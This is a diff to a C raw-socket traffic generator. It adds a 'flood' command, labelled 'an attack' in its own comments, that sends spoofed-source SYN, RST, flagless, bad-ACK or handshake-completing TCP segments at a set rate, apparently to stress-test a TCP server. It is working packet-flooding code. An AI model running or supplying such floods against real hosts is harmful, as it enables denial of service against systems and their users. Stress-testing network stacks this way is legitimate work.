@@ -5,6 +5,12 @@
  *   traffic send DEVICE MAC SOURCE DESTINATION PORT FLOWS SECONDS
  *       opens FLOWS connections (SYN, then ACK), then sends 64-byte segments (60 without the frame check sequence) of all
  *       of them in turn for SECONDS, as fast as sendmmsg(2) takes them; prints how many were sent
+ *   traffic flood DEVICE MAC SOURCE ADDRESSES DESTINATION PORT RATE SECONDS COUNT STEP…
+ *       an attack: for COUNT clients at most (ADDRESSES addresses from SOURCE on, each with its ports from 1024 on), RATE new
+ *       ones a second (0: as many as sendmmsg(2) takes) for SECONDS at most, each STEP 50 ms behind the one before. A step is
+ *       syn; none, a segment without any flag, or ack, both with a sequence number as if the handshake had ended, and an
+ *       acknowledgement of what no server has sent; rst, with the sequence number behind the SYN's; open, what ends a handshake
+ *       with `traffic answer`. Prints `flooding`, then how many segments were sent
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -24,6 +30,8 @@
 #include <unistd.h>
 
 enum { FRAME = 60, BATCH = 64, CLIENT_ISN = 5000, SERVER_ISN = 1000 };
+/* Of a flood: ports of an address, milliseconds between two steps and what may pass at most, and an acknowledgement that is wrong. */
+enum { FIRST_PORT = 1024, PORTS = 65536 - FIRST_PORT, LAG = 50, LONGEST = 60000, STEPS = 8, WRONG = 0x2badcafe };
 
 struct frame { struct ether_header ether; struct iphdr ip; struct tcphdr tcp; unsigned char payload[6]; } __attribute__((packed));
 _Static_assert(sizeof(struct frame) == FRAME, "a 64-byte frame less its check sequence");
@@ -100,18 +108,25 @@ static long blast(int fd, struct frame *frames, int flows, double until) {
   return sent;
 }
 
+/* What all frames of a sender have in common. */
+static struct frame blank(const struct ifreq *device, const char *to, const char *source, const char *destination, const char *port) {
+  struct frame f = {0};
+  unsigned char *mac = f.ether.ether_dhost;
+  sscanf(to, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
+  memcpy(f.ether.ether_shost, device->ifr_hwaddr.sa_data, 6), f.ether.ether_type = htons(ETH_P_IP);
+  f.ip.version = 4, f.ip.ihl = 5, f.ip.ttl = 64, f.ip.protocol = IPPROTO_TCP, f.ip.frag_off = htons(IP_DF);
+  f.ip.saddr = inet_addr(source), f.ip.daddr = inet_addr(destination);
+  f.tcp.dest = htons(atoi(port)), f.tcp.doff = 5, f.tcp.window = htons(65535);
+  return f;
+}
+
 static int send_all(char **argv) {
   struct ifreq request;
   int fd = open_device(argv[2], &request), flows = atoi(argv[7]);
-  struct frame *frames = calloc(flows, sizeof *frames);
+  struct frame *frames = calloc(flows, sizeof *frames), common = blank(&request, argv[3], argv[4], argv[5], argv[6]);
   for (int i = 0; i < flows; i++) {
     struct frame *f = &frames[i];
-    unsigned char *mac = f->ether.ether_dhost;
-    sscanf(argv[3], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
-    memcpy(f->ether.ether_shost, request.ifr_hwaddr.sa_data, 6), f->ether.ether_type = htons(ETH_P_IP);
-    f->ip.version = 4, f->ip.ihl = 5, f->ip.ttl = 64, f->ip.protocol = IPPROTO_TCP, f->ip.frag_off = htons(IP_DF);
-    f->ip.saddr = inet_addr(argv[4]), f->ip.daddr = inet_addr(argv[5]);
-    f->tcp.source = htons(2000 + i), f->tcp.dest = htons(atoi(argv[6])), f->tcp.doff = 5, f->tcp.window = htons(65535);
+    *f = common, f->tcp.source = htons(2000 + i);
     shape(f, 1, 0, 0);
     if (send(fd, f, FRAME, 0) < 0) die("send");
     if (i % 32 == 31) usleep(2000);
@@ -130,9 +145,57 @@ static int send_all(char **argv) {
   return 0;
 }
 
+/* The segment of client `i` of a flood from `addresses` addresses. */
+static void attack(struct frame *f, const struct frame *common, const char *step, long i, int addresses) {
+  int first = !strcmp(step, "syn"), open = !strcmp(step, "open");
+  *f = *common;
+  f->ip.saddr = htonl(ntohl(common->ip.saddr) + i % addresses), f->ip.tot_len = htons(40);
+  f->tcp.source = htons(FIRST_PORT + i / addresses % PORTS);
+  f->tcp.syn = first, f->tcp.rst = !strcmp(step, "rst"), f->tcp.ack = open || !strcmp(step, "ack");
+  f->tcp.seq = htonl(CLIENT_ISN + !first), f->tcp.ack_seq = htonl(open ? SERVER_ISN + 1 : f->tcp.ack ? WRONG : 0);
+  checksums(f);
+}
+
+static int flood(int steps, char **step, char **argv) {
+  static long begun[LONGEST + 1]; /* clients that had begun by each millisecond */
+  struct ifreq request;
+  int fd = open_device(argv[2], &request), addresses = atoi(argv[5]), last = 0;
+  struct frame frames[BATCH], common = blank(&request, argv[3], argv[4], argv[6], argv[7]);
+  double rate = atof(argv[8]), seconds = atof(argv[9]), start = now();
+  long count = atol(argv[10]), sent = 0, done[STEPS] = {0};
+  if (seconds * 1000 + LAG * steps > LONGEST) return fputs("too long\n", stderr), 2;
+  puts("flooding"), fflush(stdout);
+  for (;;) {
+    struct mmsghdr messages[BATCH] = {0};
+    struct iovec vectors[BATCH];
+    double t = now() - start;
+    int n = 0, ms = t * 1000 < LONGEST ? t * 1000 : LONGEST;
+    for (; last < ms; last++) begun[last + 1] = done[0];
+    for (int k = steps - 1; k >= 0; k--) {
+      long due = k > 0 ? (ms >= LAG * k ? begun[ms - LAG * k] : 0) : t >= seconds ? 0 : rate > 0 ? t * rate : count;
+      for (; done[k] < due && done[k] < count && n < BATCH; n++) {
+        attack(&frames[n], &common, step[k], done[k]++, addresses);
+        vectors[n] = (struct iovec){&frames[n], FRAME};
+        messages[n].msg_hdr.msg_iov = &vectors[n], messages[n].msg_hdr.msg_iovlen = 1;
+      }
+    }
+    if (n == 0 && (t >= seconds || done[0] >= count) && done[steps - 1] == done[0]) break;
+    if (n == 0) usleep(500);
+    for (int i = 0, taken; i < n; i += taken) {
+      taken = sendmmsg(fd, messages + i, n - i, 0);
+      if (taken > 0) sent += taken;
+      else if (errno == ENOBUFS || errno == EAGAIN) taken = 1; /* lost, as on any wire */
+      else die("sendmmsg");
+    }
+  }
+  printf("sent %ld segments of %ld clients in %.2f s\n", sent, done[0], now() - start);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   if (argc == 4 && !strcmp(argv[1], "answer")) return answer(argv[2], atoi(argv[3]));
   if (argc == 9 && !strcmp(argv[1], "send")) return send_all(argv);
+  if (argc > 11 && argc <= 11 + STEPS && !strcmp(argv[1], "flood")) return flood(argc - 11, argv + 11, argv);
   fprintf(stderr, "usage: see traffic.c\n");
   return 2;
 }
